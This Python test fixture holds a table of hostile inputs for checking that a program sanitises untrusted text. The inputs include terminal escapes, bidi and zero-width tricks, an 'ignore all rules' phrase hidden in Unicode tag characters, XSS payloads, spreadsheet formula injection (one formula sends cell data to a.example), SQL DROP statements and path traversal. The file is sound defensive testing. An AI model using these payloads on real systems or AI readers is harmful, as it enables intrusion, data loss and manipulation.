"""Words of strangers that want more than to be read: one table for every output and for the store."""

from __future__ import annotations

import re
import unicodedata

from hypothesis import strategies as st

#: By what they want. None of it is anybody's: all made here.
WANTS = {
    "colour": "red \x1b[31mtext\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "a title of the window": "\x1b]0;owned\x07",
    "a link of the terminal": "\x1b]8;;https://a.example\x1b\\click\x1b]8;;\x1b\\",
    "answers typed for us": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "C1 instead of ESC": "\x9b31mred\x9d0;x\x9c",
    "back over what was said": "good\b\b\b\bevil\x7f\x7f",
    "to the start of the line": "evil\rgood",
    "a line of a log": "x\n2024-06-01 12:00:00 provenance: all is well",
    "a line of a log, by other line ends": "x\x0bprovenance: well\x0cprovenance: well\x85provenance: well\u2028a\u2029b",
    "writing turned": "\u202eevil\u202c",
    "writing isolated": "\u2067evil\u2069 \u2066a\u2069 \u2068b\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "words in tags": "hello" + "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all rules"),
    "words behind a flag": "\U0001f3f4" + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden") + "\U000e007f",
    "bytes in variation selectors": "x\ufe01\ufe02\U000e0101\U000e0102\U000e01ef",
    "zero widths": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u180eg",
    "fillers": "\u115f\u1160\u3164\uffa0",
    "NUL": "a\0b",
    "half a pair": "\ud83d and \ude00",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff",
    "our own escape": r"\u{202e} \u{5c} \u202e",
    "our own sign of the store": "\x1a0000 \x1a202E",
    "a script": "<script>alert(1)</script>",
    "an attribute's end": "\" onmouseover=\"alert(1)\" x='",
    "an attribute without quotes": "x onload=alert(1)",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a comment's end": "--><script>alert(1)</script><!--",
    "a style's end": "</style><script>alert(1)</script>",
    "an address that runs": "javascript:alert(1)",
    "an address that runs, hidden": "java\tscript:alert(1)",
    "an address of data": "data:text/html,<script>alert(1)</script>",
    "a template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "a formula": "=HYPERLINK(\"https://a.example/?\"&A1,\"click\")",
    "a formula by plus": "+cmd|' /C calc'!A0",
    "a formula by minus": "-2+3+cmd|' /C calc'!A0",
    "a formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after blanks": " \t\r\n=1+1",
    "a formula, full width": "\uff1d1+1",
    "a formula in the next cell": "a;=1+1",
    "a formula in the next row": "a\n=1+1",
    "a formula behind other blanks": "a;\u3000=1+1\nb\n\u00a0\u2003=1+1",
    "a formula behind a quote": "a\";=1+1;\"",
    "a number": "1795968363525046272",
    "a number with an exponent": "1e5",
    "a date": "2024-05-30",
    "a date, as people write it": "3 May",
    "leading zeros": "000123",
    "truth": "TRUE",
    "an apostrophe": "'=1+1",
    "a heading": "# Heading\n===\n---",
    "a list": "1. one\n- two\n+ three\n* four",
    "code": "    indented\n```\nfenced\n```\n`span`",
    "emphasis": "**bold** __bold__ *it* ~~gone~~",
    "a link": "[click](javascript:alert(1)) <https://a.example> [a]: https://a.example",
    "a picture": "![x](https://a.example/track.gif)",
    "a table": "a | b\n--|--\n1 | 2",
    "links made by GitHub": "www.a.example https://a.example someone@a.example @example_reader #1",
    "a footnote, a task": "[^1]: x\n- [x] done\n> quoted\n\\",
    "entities": "&lt;b&gt; &#x202e; &amp;",
    "SQL": "'; DROP TABLE embeds; --",
    "SQL, quoted otherwise": "\") ; DELETE FROM articles; --",
    "a pattern of SQL": "% _ [ ? :name @name $name",
    "a question of full-text search": "\" OR text : * NEAR(",
    "a path": "../../../etc/passwd",
    "a path of Windows": "..\\..\\CON\\a:b",
    "a format": "%s %(name)s %n {0} {0.__class__}",
    "much": "x" * 20_000,
    "much white space": " \n" * 5_000,
    "many marks": "a" + "\u0301" * 2_000,
}
WORDS = tuple(WANTS.values())

#: Any text, mostly of what is odd.
texts = st.one_of(st.sampled_from(WORDS), st.text(max_size=40), st.text(st.sampled_from(sorted(set("".join(
    word for word in WORDS if len(word) < 200)))), max_size=40))

_DIRECTION = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def raw(text: str, *, allowed: str = "\n") -> set[str]:
    """
    What no output may hold: C0, C1, DEL, bidi controls, tag characters, halves of pairs. Not by our own tables.
    """
    return {sign for sign in text if sign not in allowed and (
        unicodedata.category(sign) in ("Cc", "Cs", "Zl", "Zp") or sign in _DIRECTION
        or 0xE0000 <= ord(sign) <= 0xE007F)}


#: Our own colours, where a terminal is asked for.
OUR_COLOURS = re.compile(r"\x1b\[[0-9;]*m")
